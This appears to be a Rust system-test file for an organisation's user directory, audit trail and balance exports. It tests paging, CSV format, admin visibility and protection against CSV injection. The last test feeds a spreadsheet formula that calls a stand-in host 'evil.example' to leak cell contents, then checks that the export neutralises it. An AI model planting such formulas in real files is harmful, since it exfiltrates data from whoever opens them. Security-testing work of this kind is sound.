//! The directory: users and the audit trail, paged and exported.

use std::collections::{BTreeMap, BTreeSet, HashSet};

use domain::actions::subscribe::SubscribePerson;
use domain::contact::{Email, SaudiMobile};
use domain::identity::PersonId;
use domain::organization::{EstablishmentId, OrganizationId, PricingPlan, SizeTier};
use domain::person::{Nationality, Person, PersonName};
use domain::store::{Record, Write};
use serde_json::{Value, json};
use system_tests::invariants::assert_books_balance;
use system_tests::world::{Backend, Client, World};

use crate::fixtures::person;
use crate::permissions::cast;

const ORG: &str = "7000000707";

/// Registers `count` persons straight into the store (test setup: 100 per write).
async fn register_many(world: &World, first: u32, count: u32) -> Vec<PersonId> {
    let now = world.now();
    let ids: Vec<PersonId> = (first..first + count).map(|n| person('1', n)).collect();
    for chunk in ids.chunks(100) {
        let writes = chunk
            .iter()
            .map(|id| {
                Write::create(Record::Person(Person {
                    id: id.clone(),
                    name: PersonName { ar: Some("موظف".into()), en: Some(format!("Employee {}", id.as_str())) },
                    nationality: Nationality::parse("SA").unwrap(),
                    iqama_expiry: None,
                    employers: BTreeSet::from([EstablishmentId::parse("1-10").unwrap(), EstablishmentId::parse("1-20").unwrap()]),
                    email: Email::parse(&format!("e{}@example.sa", id.as_str())).unwrap(),
                    mobile: SaudiMobile::parse(&format!("+9665{}", &id.as_str()[2..])).unwrap(),
                    memberships: BTreeSet::new(),
                    updated_at: now,
                    version: 1,
                }))
            })
            .collect();
        world.env.store.commit(writes).await.expect("registry seeded");
    }
    ids
}

async fn subscribe_all(world: &World, org: &OrganizationId, manager: &PersonId, ids: &[PersonId]) {
    for (n, chunk) in ids.chunks(domain::actions::subscribe::MAX_PERSONS_PER_REQUEST).enumerate() {
        let persons = chunk
            .iter()
            .enumerate()
            .map(|(i, id)| SubscribePerson {
                id: id.clone(),
                establishments: BTreeSet::from([EstablishmentId::parse(if (n + i) % 2 == 0 { "1-10" } else { "1-20" }).unwrap()]),
                user_type: None,
                language: None,
                job_title: None,
            })
            .collect();
        world.subscribe(manager, org, persons, &format!("bulk-{n}-{}", ids[0].as_str())).await;
    }
}

async fn page_all(client: &Client, token: &str, path: &str, items: &str) -> Vec<Value> {
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let url = match &cursor {
            Some(cursor) => format!("{path}{}cursor={cursor}", if path.contains('?') { "&" } else { "?" }),
            None => path.to_owned(),
        };
        let answer = client.get(&url, token).await;
        assert_eq!(answer.status, 200, "{}", answer.text());
        let page = answer.json();
        seen.extend(page[items].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => return seen,
        }
    }
}

/// Pages through over a thousand users and audit entries while other requests keep
/// writing: everything that existed when paging began is seen exactly once.
async fn paging_is_stable_while_writes_continue(backend: Backend) {
    let world = World::new(backend).await;
    let manager = PersonId::parse(&crate::fixtures::citizen(1)).unwrap();
    let org = world.onboard(ORG, PricingPlan::Qiwa, manager.as_str(), &[("1-10", SizeTier::Micro), ("1-20", SizeTier::Micro)]).await;
    world.credit(&org, 100_000_000).await;
    let existing = register_many(&world, 10_000, 1_020).await;
    subscribe_all(&world, &org, &manager, &existing).await;
    let newcomers = register_many(&world, 5_000, 100).await;
    let client = world.serve().await;
    let token = client.token_for(&manager);

    let before_users: BTreeSet<String> = existing.iter().map(|p| p.as_str().to_owned()).chain([manager.as_str().to_owned()]).collect();
    // Before the writers start, the trail holds one `user.subscribed` entry per existing user
    // (and the onboarding and the credit).

    // Writers: subscriptions of people whose IDs sort before and among the existing ones.
    let writer = {
        let env = world.env.clone();
        let code_key = world.code_key().await;
        let org = org.clone();
        let manager = manager.clone();
        let newcomers = newcomers.clone();
        tokio::spawn(async move {
            for (n, id) in newcomers.iter().enumerate() {
                let persons = vec![SubscribePerson {
                    id: id.clone(),
                    establishments: BTreeSet::from([EstablishmentId::parse("1-10").unwrap()]),
                    user_type: None,
                    language: None,
                    job_title: None,
                }];
                system_tests::world::subscribe_in(&env, code_key.clone(), &manager, &org, persons, &format!("late-{n}")).await;
            }
        })
    };
    let users = page_all(&client, &token, &format!("/v1/organizations/{ORG}/users?limit=100"), "users").await;
    let entries = page_all(&client, &token, &format!("/v1/organizations/{ORG}/audit?limit=100"), "entries").await;
    writer.await.expect("the writer finished");

    let user_ids: Vec<String> = users.iter().map(|u| u["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(user_ids.len(), user_ids.iter().collect::<HashSet<_>>().len(), "no user twice");
    let seen: BTreeSet<String> = user_ids.iter().cloned().collect();
    assert!(before_users.is_subset(&seen), "every user that existed is listed ({} missing)", before_users.difference(&seen).count());
    assert!(user_ids.windows(2).all(|w| w[0] < w[1]), "in ID order");

    let entry_ids: Vec<String> = entries.iter().map(|e| e["id"].as_str().unwrap().to_owned()).collect();
    assert!(entry_ids.len() > 1_000);
    assert_eq!(entry_ids.len(), entry_ids.iter().collect::<HashSet<_>>().len(), "no entry twice");
    let subscribed: BTreeSet<String> =
        entries.iter().filter(|e| e["action"] == "user.subscribed").map(|e| e["target"].as_str().unwrap().to_owned()).collect();
    let existing_ids: BTreeSet<String> = existing.iter().map(|p| p.as_str().to_owned()).collect();
    assert!(
        existing_ids.is_subset(&subscribed),
        "every entry that existed is listed ({} missing)",
        existing_ids.difference(&subscribed).count()
    );
    for action in ["organization.onboarded", "balance.credited"] {
        assert_eq!(entries.iter().filter(|e| e["action"] == action).count(), 1, "{action}");
    }
    let times: Vec<&str> = entries.iter().map(|e| e["at"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]), "newest first");

    // After the writers: all 1,121 users, each with a seat the balance counts.
    let all = page_all(&client, &token, &format!("/v1/organizations/{ORG}/users?limit=200"), "users").await;
    assert_eq!(all.len(), 1 + 1_020 + 100);
    let balance = client.get(&format!("/v1/organizations/{ORG}/balance?limit=1"), &token).await.json();
    assert_eq!(balance["seats_sold"], 1_120);
    assert_eq!(
        balance["total_credited_halalas"].as_u64().unwrap() - balance["total_debited_halalas"].as_u64().unwrap(),
        balance["available_halalas"].as_u64().unwrap()
    );
}
both!(paging_is_stable_while_writes_continue);

fn parse_csv(body: &[u8]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    assert!(body.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a byte-order mark");
    let mut reader = csv::ReaderBuilder::new().from_reader(&body[3..]);
    let header: Vec<String> = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    let rows = reader
        .records()
        .map(|r| {
            let record = r.expect("every row parses");
            header.iter().cloned().zip(record.iter().map(str::to_owned)).collect()
        })
        .collect();
    (header, rows)
}

async fn exports_are_rfc_4180_csv_and_are_audited(backend: Backend) {
    let cast = cast(backend).await;
    let (world, client) = (&cast.world, &cast.client);
    let token = client.token_for(&cast.manager);
    let tricky = "مدير \"الموارد\", البشرية";
    let path = format!("/v1/organizations/7000000505/users/{}", cast.citizen_user.as_str());
    let version = client.get(&path, &token).await.json()["version"].clone();
    assert_eq!(client.call("PATCH", &path, Some(&token), &[], Some(&json!({ "version": version, "job_title": tricky }))).await.status, 200);
    let exports_before =
        world.records().await.into_iter().filter(|r| matches!(r, Record::Audit(e) if e.action.as_str().ends_with("exported"))).count();

    // Reading is not audited.
    let json_entries = client.get("/v1/organizations/7000000505/audit?limit=200", &token).await.json()["entries"].as_array().unwrap().len();
    let answer = client.call("GET", "/v1/organizations/7000000505/audit", Some(&token), &[("accept", "text/csv")], None).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8"));
    assert!(answer.header("content-disposition").unwrap().contains("audit-7000000505.csv"));
    let (header, rows) = parse_csv(&answer.body);
    assert_eq!(
        header,
        [
            "time",
            "actor_kind",
            "actor",
            "action",
            "target",
            "establishments",
            "changes",
            "request_id",
            "actor_name_ar",
            "actor_name_en",
            "target_name_ar",
            "target_name_en"
        ]
    );
    assert_eq!(rows.len(), json_entries, "the same entries as the listing");
    let modified = rows.iter().find(|r| r["action"] == "user.modified").expect("the modification");

    // People by name beside their IDs: the listing's `people` and the export's columns.
    let name_of = async |id: &PersonId| {
        client.get(&format!("/v1/organizations/7000000505/users/{}", id.as_str()), &token).await.json()["name"].clone()
    };
    let (manager_name, citizen_name) = (name_of(&cast.manager).await, name_of(&cast.citizen_user).await);
    assert!(manager_name.is_object() && citizen_name.is_object() && manager_name != citizen_name);
    let listing = client.get("/v1/organizations/7000000505/audit?limit=200", &token).await.json();
    assert_eq!(listing["people"][cast.manager.as_str()], manager_name, "who acted");
    assert_eq!(listing["people"][cast.citizen_user.as_str()], citizen_name, "whom it was about");
    let part = |name: &Value, language: &str| name[language].as_str().unwrap_or_default().to_owned();
    assert_eq!(
        [&modified["actor_name_ar"], &modified["actor_name_en"], &modified["target_name_ar"], &modified["target_name_en"]],
        [&part(&manager_name, "ar"), &part(&manager_name, "en"), &part(&citizen_name, "ar"), &part(&citizen_name, "en")]
    );
    let by_operator = rows.iter().find(|r| r["actor_kind"] == "operator").expect("the operator's onboarding or credit");
    assert!(
        by_operator["actor_name_ar"].is_empty() && by_operator["actor_name_en"].is_empty(),
        "an operator is no person of the organization"
    );
    let changes: Value = serde_json::from_str(&modified["changes"]).expect("changes are JSON in one cell");
    assert_eq!(changes["job_title"]["after"], tricky, "Arabic, quotes and commas survive");
    assert!(rows.iter().all(|r| !r["time"].is_empty() && !r["request_id"].is_empty()));

    // A time range, and one user's trail.
    let last = domain::clock::key_timestamp(world.now());
    let ranged = client
        .call(
            "GET",
            &format!("/v1/organizations/7000000505/audit?format=csv&action=user.modified&from={last}&to={last}"),
            Some(&token),
            &[],
            None,
        )
        .await;
    let (_, ranged_rows) = parse_csv(&ranged.body);
    assert_eq!(ranged_rows.len(), 1, "only the modification, in the range");
    let own = client.call("GET", &format!("{path}/audit?format=csv"), Some(&token), &[], None).await;
    let (_, own_rows) = parse_csv(&own.body);
    assert!(own_rows.iter().all(|r| r["target"] == cast.citizen_user.as_str()));
    for listing in ["/v1/organizations/7000000505/audit", "/v1/organizations/7000000505/balance"] {
        let unknown = client.call("GET", &format!("{listing}?format=xml"), Some(&token), &[], None).await;
        assert_eq!((unknown.status, unknown.json()["error"]["field"].clone()), (400, json!("format")), "{listing}: csv or json only");
        let forced = client.call("GET", &format!("{listing}?format=json"), Some(&token), &[("accept", "text/csv")], None).await;
        assert_eq!(forced.header("content-type"), Some("application/json"), "{listing}: format=json wins over Accept");
    }

    // The ledger the same way; it sums to the balance.
    let ledger = client.call("GET", "/v1/organizations/7000000505/balance", Some(&token), &[("accept", "text/csv")], None).await;
    let (_, ledger_rows) = parse_csv(&ledger.body);
    let balance = client.get("/v1/organizations/7000000505/balance", &token).await.json();
    let seat = ledger_rows.iter().find(|r| r["person"] == cast.citizen_user.as_str()).expect("the citizen's seat");
    assert_eq!([&seat["person_name_ar"], &seat["person_name_en"]], [&part(&citizen_name, "ar"), &part(&citizen_name, "en")]);
    assert_eq!(balance["people"][cast.citizen_user.as_str()], citizen_name, "whose seat, by name");
    let net: i64 = ledger_rows
        .iter()
        .map(|r| {
            let amount: i64 = r["amount_halalas"].parse().unwrap();
            if r["direction"] == "credit" { amount } else { -amount }
        })
        .sum();
    assert_eq!(net, balance["available_halalas"].as_i64().unwrap());
    assert_books_balance(&world.records().await);

    let exports: Vec<_> = world
        .records()
        .await
        .into_iter()
        .filter_map(|r| match r {
            Record::Audit(e) if e.action.as_str().ends_with("exported") => Some(e),
            _ => None,
        })
        .collect();
    assert_eq!(exports.len() - exports_before, 4, "four exports, each audited; readings are not");
    assert!(exports.iter().all(|e| e.actor == domain::audit::Actor::Person(cast.manager.clone())));
    let bad = client.get("/v1/organizations/7000000505/audit?from=yesterday", &token).await;
    assert_eq!((bad.status, bad.code().as_str()), (400, "invalid_request"));
}
both!(exports_are_rfc_4180_csv_and_are_audited);

async fn delegated_admins_see_only_their_establishments(backend: Backend) {
    let cast = cast(backend).await;
    let client = &cast.client;
    let admin = client.token_for(&cast.admin);
    let users = client.get("/v1/organizations/7000000505/users", &admin).await;
    assert_eq!(users.status, 200, "{}", users.text());
    let listed: BTreeSet<String> = users.json()["users"].as_array().unwrap().iter().map(|u| u["id"].as_str().unwrap().to_owned()).collect();
    assert!(!listed.contains(cast.outsider.as_str()), "the user of 1-20 only is not listed");
    assert!(listed.contains(cast.citizen_user.as_str()) && listed.contains(cast.resident_user.as_str()));
    assert!(users.json()["users"].as_array().unwrap().iter().all(|u| u["establishments"].as_array().unwrap().iter().any(|e| e == "1-10")));
    let other = client.get("/v1/organizations/7000000505/users?establishment=1-20", &admin).await;
    assert_eq!((other.status, other.code().as_str()), (403, "outside_administered_establishments"));

    let listing = client.get("/v1/organizations/7000000505/audit?limit=200", &admin).await.json();
    let entries = listing["entries"].as_array().unwrap();
    assert!(!entries.is_empty());
    assert!(
        entries.iter().all(|e| e["establishments"].as_array().unwrap().iter().any(|x| x == "1-10")),
        "only entries of its establishments"
    );
    assert!(!entries.iter().any(|e| e["target"] == cast.outsider.as_str()));
    // Names only of the people the admin may see: the users of its establishments, not the
    // manager who acted on them.
    let people = listing["people"].as_object().unwrap();
    assert!(people.contains_key(cast.citizen_user.as_str()), "a user of its establishments, by name");
    assert!(entries.iter().any(|e| e["actor"]["id"] == cast.manager.as_str()), "the manager acted on entries it reads");
    assert!(!people.contains_key(cast.manager.as_str()), "but is not named to it");
    for id in people.keys() {
        let seen = client.get(&format!("/v1/organizations/7000000505/users/{id}"), &admin).await;
        assert_eq!(seen.status, 200, "{id} is named only because the admin may see them");
    }
    let outsider_trail = client.get(&format!("/v1/organizations/7000000505/users/{}/audit", cast.outsider.as_str()), &admin).await;
    assert_eq!((outsider_trail.status, outsider_trail.code().as_str()), (404, "user_not_found"));

    // Members read their own trail only; the manager everything.
    let member = client.token_for(&cast.member);
    assert_eq!(client.get("/v1/organizations/7000000505/users", &member).await.code(), "not_an_administrator");
    assert_eq!(client.get("/v1/organizations/7000000505/audit", &member).await.code(), "not_an_administrator");
    let own = client.get(&format!("/v1/organizations/7000000505/users/{}/audit", cast.member.as_str()), &member).await;
    assert_eq!(own.status, 200);
    assert!(own.json()["entries"].as_array().unwrap().iter().all(|e| e["target"] == cast.member.as_str()));
    assert!(
        own.json()["entries"].as_array().unwrap().iter().any(|e| e["actor"]["id"].as_str().is_some_and(|id| id != cast.member.as_str())),
        "someone else acted on the member"
    );
    let named: Vec<String> = own.json()["people"].as_object().unwrap().keys().cloned().collect();
    assert_eq!(named, [cast.member.as_str()], "a member is told their own name only");
    assert_eq!(
        client.get(&format!("/v1/organizations/7000000505/users/{}/audit", cast.admin.as_str()), &member).await.code(),
        "user_not_found"
    );
    let everything = client.get("/v1/organizations/7000000505/users?limit=200", &client.token_for(&cast.manager)).await.json();
    assert!(everything["users"].as_array().unwrap().iter().any(|u| u["id"] == cast.outsider.as_str()));
    let suspended = client.get("/v1/organizations/7000000505/users?status=suspended", &client.token_for(&cast.manager)).await.json();
    assert_eq!(
        suspended["users"].as_array().unwrap().iter().map(|u| u["id"].as_str().unwrap()).collect::<Vec<_>>(),
        vec![cast.suspended.as_str()]
    );
    let expired = client.get("/v1/organizations/7000000505/users?status=expired", &client.token_for(&cast.manager)).await.json();
    assert_eq!(
        expired["users"].as_array().unwrap().iter().map(|u| u["id"].as_str().unwrap()).collect::<Vec<_>>(),
        vec![cast.lapsed.as_str()],
        "a seat past its end lists as expired before any sweep"
    );
}
both!(delegated_admins_see_only_their_establishments);

/// CSV injection: a payment reference (or any typed text) that a spreadsheet would run as a
/// formula — starting with `=`, `+`, `-` or `@` (tabs and carriage returns never get past
/// input validation) — is exported as text, prefixed with a quote; and API answers, which
/// carry personal data, are never cached or sniffed.
async fn exports_neutralise_formulas_and_answers_are_not_cached(backend: Backend) {
    let cast = cast(backend).await;
    let client = &cast.client;
    let operator = client.operator_token();
    let formulas = ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Invoice\")", "+966500000000", "-1+1", "@SUM(1,2)"];
    for (n, reference) in formulas.iter().enumerate() {
        let credited = client
            .post(
                "/v1/organizations/7000000505/balance/credits",
                &operator,
                &json!({ "amount_halalas": 100 + n, "payment_reference": reference }),
            )
            .await;
        assert_eq!(credited.status, 201, "{}", credited.text());
    }
    let token = client.token_for(&cast.manager);
    let ledger = client.call("GET", "/v1/organizations/7000000505/balance", Some(&token), &[("accept", "text/csv")], None).await;
    assert_eq!(ledger.status, 200, "{}", ledger.text());
    let (_, rows) = parse_csv(&ledger.body);
    for reference in formulas {
        assert!(rows.iter().any(|row| row["reference"] == format!("'{reference}")), "{reference} is text: {rows:?}");
        assert!(
            rows.iter().all(|row| row.values().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r']))),
            "no cell starts a formula"
        );
    }
    for answer in [&ledger, &client.get("/v1/organizations/7000000505", &token).await] {
        assert_eq!(answer.header("cache-control"), Some("no-store"));
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
}
both!(exports_neutralise_formulas_and_answers_are_not_cached);
